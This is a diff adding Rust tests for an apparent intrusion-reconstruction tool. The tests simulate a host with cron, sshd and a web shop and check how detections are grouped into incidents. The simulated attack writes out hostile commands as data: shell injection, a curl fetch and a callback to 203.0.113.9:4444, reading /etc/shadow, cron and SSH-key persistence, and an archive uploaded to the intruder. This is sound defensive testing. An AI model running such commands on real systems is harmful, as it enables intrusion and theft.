@@ -1,0 +1,561 @@
+//! What becomes an incident, what stays out of it, and what is said of its beginning.
+
+use saigen_schemas::report::{Grade, Incident, Role};
+
+use crate::detect::Level::{High, Low, Medium};
+use crate::detect::Tactic::{
+    CommandAndControl, CredentialAccess, Discovery, Execution, Exfiltration, InitialAccess,
+    Persistence,
+};
+use crate::reconstruct::tests::scene::{P, Scene};
+use crate::reference::EventRef;
+
+const SERVICE_UID: u32 = 950;
+const INTRUDER: &str = "203.0.113.9";
+
+/// The machine: a first process, cron, a login server and a web application.
+struct House {
+    scene: Scene,
+    cron: P,
+    sshd: P,
+    web: P,
+    inode: u64,
+}
+
+impl House {
+    fn new() -> Self {
+        let mut scene = Scene::new();
+        let init = scene.stood(None, "/usr/sbin/init", &["/usr/sbin/init"]);
+        let cron = scene.stood(Some(init), "/usr/sbin/cron", &["/usr/sbin/cron"]);
+        let sshd = scene.stood(Some(init), "/usr/sbin/sshd", &["/usr/sbin/sshd", "-D"]);
+        let web = scene.stood(Some(init), "/srv/shop/bin/shopd", &["/srv/shop/bin/shopd"]);
+        scene.listen(web, 80);
+        scene.listen(sshd, 22);
+        Self {
+            scene,
+            cron,
+            sshd,
+            web,
+            inode: 1_000,
+        }
+    }
+
+    fn inode(&mut self) -> u64 {
+        self.inode += 1;
+        self.inode
+    }
+
+    /// A request that makes the service start a shell; gives the shell and its worker.
+    fn request(&mut self, ip: &str, command: &str) -> (P, EventRef) {
+        let s = &mut self.scene;
+        s.wait(300);
+        s.accept(self.web, ip, 40_000);
+        let worker = s.fork(self.web);
+        s.append(worker, "/var/log/shop/access.log", 77);
+        let (shell, seen) = s.start(worker, SERVICE_UID, &["/bin/sh", "-c", command]);
+        s.finds(
+            "service-shell",
+            Medium,
+            &[InitialAccess, Execution],
+            shell,
+            seen,
+        );
+        (shell, seen)
+    }
+
+    /// An ordinary visitor who uses the page that starts a shell.
+    fn visit(&mut self, ip: &str) {
+        let (shell, _) = self.request(ip, "getent hosts www");
+        let (getent, _) = self
+            .scene
+            .start(shell, SERVICE_UID, &["getent", "hosts", "www"]);
+        self.scene.exit(getent);
+        self.scene.exit(shell);
+    }
+
+    /// A login with a shell; gives the shell.
+    fn login(&mut self, ip: &str, uid: u32) -> P {
+        let s = &mut self.scene;
+        s.wait(200);
+        s.accept(self.sshd, ip, 50_000);
+        let worker = s.fork(self.sshd);
+        s.append(worker, "/var/log/auth.log", 78);
+        let (shell, _) = s.start(worker, uid, &["/bin/bash"]);
+        shell
+    }
+
+    /// Ordinary work: visitors, an administrator who looks into things, an installation, a backup.
+    fn ordinary_work(&mut self) {
+        for last in 1..5 {
+            self.visit(&format!("198.51.100.{last}"));
+        }
+        let admin = self.login("10.0.0.7", 1_001);
+        let s = &mut self.scene;
+        for command in ["id", "uname", "ps"] {
+            let (child, seen) = s.start(admin, 1_001, &[command]);
+            s.finds("looks-round", Low, &[Discovery], child, seen);
+            s.exit(child);
+        }
+        let (doas, _) = s.start(admin, 0, &["doas", "grep", "root", "/etc/shadow"]);
+        s.exec(doas, None, 0, &["grep", "root", "/etc/shadow"]);
+        let read = s.read(doas, "/etc/shadow");
+        s.finds("hashes-read", High, &[CredentialAccess], doas, read);
+        s.exit(doas);
+        s.exit(admin);
+        let operator = self.login("10.0.0.7", 1_002);
+        let (script, tool) = (self.inode(), self.inode());
+        let s = &mut self.scene;
+        let (curl, _) = s.start(
+            operator,
+            1_002,
+            &["curl", "-o", "/tmp/update.run", "http://mirror/update.run"],
+        );
+        s.connect(curl, "192.0.2.80", 80);
+        let fetched = s.write(curl, "/tmp/update.run", script);
+        s.finds("fetched", Medium, &[CommandAndControl], curl, fetched);
+        s.exit(curl);
+        let (update, seen) = s.start(operator, 0, &["/tmp/update.run"]);
+        s.finds(
+            "run-from-temporary-place",
+            Medium,
+            &[Execution],
+            update,
+            seen,
+        );
+        s.write(update, "/opt/agent/agent", tool);
+        let (chmod, seen) = s.start(update, 0, &["chmod", "755", "/opt/agent/agent"]);
+        s.finds("made-executable", Medium, &[Execution], chmod, seen);
+        s.exit(chmod);
+        s.exit(update);
+        s.exit(operator);
+        let (job, _) = self.scene.start(
+            self.cron,
+            0,
+            &["/bin/sh", "-c", "tar -czf /var/backups/d.tgz /srv"],
+        );
+        let (tar, _) = self
+            .scene
+            .start(job, 0, &["tar", "-czf", "/var/backups/d.tgz", "/srv"]);
+        let archive = self.inode();
+        self.scene.write(tar, "/var/backups/d.tgz", archive);
+        let (curl, sent) = self.scene.start(
+            job,
+            0,
+            &["curl", "-T", "/var/backups/d.tgz", "http://backup/"],
+        );
+        self.scene.connect(curl, "10.0.0.99", 80);
+        self.scene
+            .finds("archive-sent", Low, &[Exfiltration], curl, sent);
+    }
+
+    /// The intrusion: a shell, a tool that is fetched, hidden, run and left to cron; then the
+    /// archive leaves and the tool is deleted.
+    fn intrusion(&mut self, ip: &str, tool: &str) {
+        let (shell, _) = self.request(ip, "x;id");
+        let (id, seen) = self.scene.start(shell, SERVICE_UID, &["id"]);
+        self.scene
+            .finds("service-looks-round", Medium, &[Discovery], id, seen);
+        self.scene.exit(id);
+        self.scene.exit(shell);
+        let (shell, _) = self.request(ip, &format!("x;curl -o {tool} http://{ip}/t"));
+        let inode = self.inode();
+        let s = &mut self.scene;
+        let (curl, _) = s.start(shell, SERVICE_UID, &["curl", "-o", tool]);
+        s.connect(curl, ip, 8_000);
+        let fetched = s.write(curl, tool, inode);
+        s.finds("fetched", Medium, &[CommandAndControl], curl, fetched);
+        s.exit(curl);
+        s.exit(shell);
+        let (shell, _) = self.request(ip, &format!("x;{tool} {ip} 4444 &"));
+        let (agent, seen) = self.scene.start(shell, SERVICE_UID, &[tool, ip, "4444"]);
+        self.scene
+            .finds("run-from-temporary-place", High, &[Execution], agent, seen);
+        self.scene.exit(shell);
+        self.scene.connect(agent, ip, 4_444);
+        self.scene.wait(500);
+        let (inner, _) = self
+            .scene
+            .start(agent, 0, &["/bin/sh", "-c", "cat /etc/shadow"]);
+        let (cat, _) = self.scene.start(inner, 0, &["cat", "/etc/shadow"]);
+        let read = self.scene.read(cat, "/etc/shadow");
+        self.scene
+            .finds("hashes-read", High, &[CredentialAccess], cat, read);
+        let (copy, table) = (self.inode(), self.inode());
+        let (cp, _) = self
+            .scene
+            .start(agent, 0, &["cp", tool, "/opt/.sys/agentd"]);
+        self.scene.write(cp, "/opt/.sys/agentd", copy);
+        let (writer, _) = self.scene.start(
+            agent,
+            0,
+            &[
+                "/bin/sh",
+                "-c",
+                "echo '* * * * * root /opt/.sys/agentd' > /etc/cron.d/agentd",
+            ],
+        );
+        let written = self.scene.write(writer, "/etc/cron.d/agentd", table);
+        self.scene.finds(
+            "cron-table-written",
+            Medium,
+            &[Persistence],
+            writer,
+            written,
+        );
+        let (rm, _) = self.scene.start(agent, 0, &["rm", "-f", tool]);
+        self.scene.delete(rm, tool, inode);
+    }
+}
+
+fn malicious(incident: &Incident) -> Vec<String> {
+    let own = incident
+        .processes
+        .iter()
+        .filter(|process| process.role == Role::Malicious);
+    own.filter_map(|process| process.command_line.clone())
+        .collect()
+}
+
+fn said(incident: &Incident) -> String {
+    let entry: Vec<&str> = incident
+        .entry
+        .iter()
+        .map(|sentence| sentence.text.as_str())
+        .collect();
+    entry.join("\n")
+}
+
+#[test]
+fn ordinary_work_is_no_incident() {
+    let mut house = House::new();
+    house.ordinary_work();
+    let told = house.scene.done().reconstruct();
+    let titles: Vec<_> = told
+        .incidents
+        .iter()
+        .map(|incident| (&incident.title, &incident.score_parts))
+        .collect();
+    assert!(titles.is_empty(), "{titles:#?}");
+    assert!(
+        told.detections.len() > 5
+            && told
+                .detections
+                .iter()
+                .all(|detection| detection.incident.is_none())
+    );
+}
+
+#[test]
+fn an_intrusion_among_ordinary_work_is_one_incident_with_its_entry() {
+    let mut house = House::new();
+    house.ordinary_work();
+    house.intrusion(INTRUDER, "/tmp/.x");
+    for last in 5..8 {
+        house.visit(&format!("198.51.100.{last}"));
+    }
+    let told = house.scene.done().reconstruct();
+    assert_eq!(
+        told.incidents.len(),
+        1,
+        "{:#?}",
+        told.incidents
+            .iter()
+            .map(|one| &one.title)
+            .collect::<Vec<_>>()
+    );
+    let incident = &told.incidents[0];
+    let lines = malicious(incident);
+    for wanted in [
+        "id",
+        "/tmp/.x 203.0.113.9 4444",
+        "cat /etc/shadow",
+        "rm -f /tmp/.x",
+        "cp /tmp/.x /opt/.sys/agentd",
+    ] {
+        assert!(
+            lines.iter().any(|line| line == wanted),
+            "{wanted} is not in {lines:#?}"
+        );
+    }
+    for benign in [
+        "getent hosts www",
+        "grep root /etc/shadow",
+        "/tmp/update.run",
+        "/bin/bash",
+    ] {
+        assert!(
+            !lines.iter().any(|line| line == benign),
+            "{benign} is in {lines:#?}"
+        );
+    }
+    assert!(
+        said(incident).contains(INTRUDER) && said(incident).contains("shopd"),
+        "{}",
+        said(incident)
+    );
+    assert!(incident.steps.is_sorted_by_key(|step| step.time));
+    let web = incident
+        .processes
+        .iter()
+        .find(|process| process.image.as_deref() == Some("/srv/shop/bin/shopd"));
+    assert_eq!(web.map(|process| process.role), Some(Role::Compromised));
+    assert_eq!(incident.persistence.len(), 1);
+    assert!(incident.title.contains("web-1"), "{}", incident.title);
+}
+
+#[test]
+fn two_intrusions_stay_two() {
+    let mut house = House::new();
+    house.intrusion(INTRUDER, "/tmp/.x");
+    house.ordinary_work();
+    house.intrusion("192.0.2.66", "/dev/shm/.y");
+    let told = house.scene.done().reconstruct();
+    assert_eq!(told.incidents.len(), 2);
+    for incident in &told.incidents {
+        let lines = malicious(incident).join("\n");
+        assert!(
+            lines.contains("/tmp/.x") != lines.contains("/dev/shm/.y"),
+            "{lines}"
+        );
+    }
+}
+
+#[test]
+fn a_file_that_the_intrusion_left_and_cron_runs_later_belongs_to_it() {
+    let mut house = House::new();
+    house.intrusion(INTRUDER, "/tmp/.x");
+    house.scene.wait(60_000);
+    let (job, _) = house.scene.start(
+        house.cron,
+        0,
+        &["/bin/sh", "-c", "/opt/.sys/agentd 203.0.113.9"],
+    );
+    let (agent, _) = house
+        .scene
+        .start(job, 0, &["/opt/.sys/agentd", "203.0.113.9"]);
+    house.scene.connect(agent, INTRUDER, 4_444);
+    let (other, _) = house
+        .scene
+        .start(house.cron, 0, &["/bin/sh", "-c", "logtidy"]);
+    house.scene.exit(other);
+    let told = house.scene.done().reconstruct();
+    assert_eq!(told.incidents.len(), 1);
+    let incident = &told.incidents[0];
+    let lines = malicious(incident);
+    assert!(
+        lines.contains(&"/opt/.sys/agentd 203.0.113.9".to_owned()),
+        "{lines:#?}"
+    );
+    assert!(
+        lines.contains(&"/bin/sh -c '/opt/.sys/agentd 203.0.113.9'".to_owned()),
+        "{lines:#?}"
+    );
+    assert!(
+        !lines.iter().any(|line| line.contains("logtidy")),
+        "{lines:#?}"
+    );
+    let join = incident
+        .joined_by
+        .iter()
+        .find(|join| join.shared == "/opt/.sys/agentd");
+    assert_eq!(
+        join.map(|join| join.grade),
+        Some(Grade::Inferred),
+        "{:#?}",
+        incident.joined_by
+    );
+}
+
+#[test]
+fn without_the_connection_the_entry_is_not_observable() {
+    let mut house = House::new();
+    let s = &mut house.scene;
+    let (shell, seen) = s.start(house.web, SERVICE_UID, &["/bin/sh", "-c", "bash -i"]);
+    s.finds(
+        "shell-that-calls-out",
+        High,
+        &[InitialAccess, Execution],
+        shell,
+        seen,
+    );
+    let (cat, _) = s.start(shell, SERVICE_UID, &["cat", "/etc/shadow"]);
+    let read = s.read(cat, "/etc/shadow");
+    s.finds("hashes-read", High, &[CredentialAccess], cat, read);
+    let told = house.scene.done().reconstruct();
+    assert_eq!(told.incidents.len(), 1);
+    let entry = &told.incidents[0].entry[0];
+    assert_eq!(entry.grade, Grade::Gap, "{}", entry.text);
+    assert!(
+        entry.text.contains("shopd") && entry.text.contains("not observable"),
+        "{}",
+        entry.text
+    );
+    assert!(
+        told.incidents[0]
+            .network
+            .iter()
+            .all(|item| item.remote.is_none())
+    );
+}
+
+#[test]
+fn a_reused_pid_joins_nothing() {
+    let mut house = House::new();
+    house.intrusion(INTRUDER, "/tmp/.x");
+    let told = {
+        let s = &mut house.scene;
+        let (shell, _) = s.start(house.cron, 0, &["/bin/sh", "-c", "report"]);
+        s.exit(shell);
+        s.wait(5_000);
+        // The same number, another process: its child is not the intruder's.
+        let again = P {
+            key: saigen_schemas::event::ProcessKey::new(104, s.now * 1_000),
+        };
+        s.exec(again, Some(house.cron), 0, &["/bin/sh", "-c", "innocent"]);
+        let (child, _) = s.start(again, 0, &["date"]);
+        s.exit(child);
+        house.scene.done().reconstruct()
+    };
+    assert_eq!(told.incidents.len(), 1);
+    let lines = malicious(&told.incidents[0]);
+    assert!(
+        !lines
+            .iter()
+            .any(|line| line == "date" || line.contains("innocent")),
+        "{lines:#?}"
+    );
+}
+
+#[test]
+fn the_order_of_detections_does_not_matter() {
+    let mut house = House::new();
+    house.ordinary_work();
+    house.intrusion(INTRUDER, "/tmp/.x");
+    house.intrusion("192.0.2.66", "/dev/shm/.y");
+    let mut recording = house.scene.done();
+    let json = |told: &crate::reconstruct::Reconstruction| {
+        serde_json::to_string(&(&told.incidents, &told.detections, &told.pruned)).unwrap()
+    };
+    let forward = json(&recording.reconstruct());
+    recording.detections.reverse();
+    assert_eq!(json(&recording.reconstruct()), forward);
+    let middle = recording.detections.len() / 2;
+    recording.detections.rotate_left(middle);
+    assert_eq!(json(&recording.reconstruct()), forward);
+}
+
+#[test]
+fn a_login_with_the_key_that_was_left_belongs_to_the_intrusion() {
+    let mut house = House::new();
+    let admin = house.login("10.0.0.7", 1_001);
+    house.scene.exit(admin);
+    house.intrusion(INTRUDER, "/tmp/.x");
+    let keys = house.inode();
+    let (shell, _) = house.request(INTRUDER, "x;echo key >> /root/.ssh/authorized_keys");
+    house.scene.write(shell, "/root/.ssh/authorized_keys", keys);
+    house.scene.exit(shell);
+    house.scene.wait(10_000);
+    let session = house.login(INTRUDER, 0);
+    let (w, _) = house.scene.start(session, 0, &["w"]);
+    house.scene.exit(w);
+    let admin = house.login("10.0.0.7", 1_001);
+    let (df, _) = house.scene.start(admin, 1_001, &["df"]);
+    house.scene.exit(df);
+    let told = house.scene.done().reconstruct();
+    let lines = malicious(&told.incidents[0]);
+    assert!(
+        lines.contains(&"w".to_owned()) && !lines.contains(&"df".to_owned()),
+        "{lines:#?}"
+    );
+}
+
+#[test]
+fn readers_and_common_programs_are_not_drawn_in() {
+    let mut house = House::new();
+    house.intrusion(INTRUDER, "/tmp/.x");
+    let (job, _) = house
+        .scene
+        .start(house.cron, 0, &["/bin/sh", "-c", "backup"]);
+    let (tar, _) = house.scene.start(job, 0, &["tar", "-c", "/opt"]);
+    house.scene.read(tar, "/opt/.sys/agentd");
+    let told = house.scene.done().reconstruct();
+    let lines = malicious(&told.incidents[0]);
+    assert!(
+        !lines
+            .iter()
+            .any(|line| line.contains("tar") || line.contains("backup")),
+        "{lines:#?}"
+    );
+}
+
+#[test]
+fn processes_that_are_their_own_parents_end_the_search() {
+    let mut scene = Scene::new();
+    let one = scene.stood(None, "/tmp/a", &["/tmp/a"]);
+    let seen = scene.exec(one, Some(one), 0, &["/tmp/a"]);
+    let two = scene.fork(one);
+    scene.exec(one, Some(two), 0, &["/tmp/b"]);
+    scene.exec(two, Some(one), 0, &["/tmp/c"]);
+    scene.finds("strange", High, &[Execution], one, seen);
+    let told = scene.done().reconstruct();
+    assert_eq!(told.incidents.len(), 1);
+    assert_eq!(told.incidents[0].entry[0].grade, Grade::Gap);
+}
+
+#[test]
+fn no_detection_is_no_incident_and_says_so() {
+    let mut house = House::new();
+    house.visit("198.51.100.1");
+    let mut recording = house.scene.done();
+    recording.detections.clear();
+    let told = recording.reconstruct();
+    assert!(told.incidents.is_empty());
+    assert!(
+        told.scope
+            .iter()
+            .any(|sentence| sentence.text.contains("No rule fired"))
+    );
+}
+
+#[test]
+fn what_left_is_told_with_its_size() {
+    let mut house = House::new();
+    let (shell, seen) = house.request(INTRUDER, "x;tar");
+    let archive = house.inode();
+    let s = &mut house.scene;
+    s.finds("shell-by-request", High, &[InitialAccess], shell, seen);
+    let (tar, seen) = s.start(
+        shell,
+        SERVICE_UID,
+        &["tar", "-czf", "/tmp/.d.tgz", "/srv/documents"],
+    );
+    s.finds(
+        "packed",
+        Medium,
+        &[crate::detect::Tactic::Collection],
+        tar,
+        seen,
+    );
+    s.write(tar, "/tmp/.d.tgz", archive);
+    let (curl, _) = s.start(
+        shell,
+        SERVICE_UID,
+        &["curl", "-T", "/tmp/.d.tgz", "http://203.0.113.9/"],
+    );
+    s.connect(curl, INTRUDER, 8_080);
+    s.close(curl, INTRUDER, 8_080, 250_000, 400);
+    let told = house.scene.done().reconstruct();
+    let incident = &told.incidents[0];
+    let damage: Vec<&str> = incident
+        .story
+        .damage
+        .iter()
+        .map(|sentence| sentence.text.as_str())
+        .collect();
+    assert!(
+        damage.iter().any(|text| text.contains("244.1 KiB")
+            && text.contains(INTRUDER)
+            && text.contains("/tmp/.d.tgz")),
+        "{damage:#?}"
+    );
+}
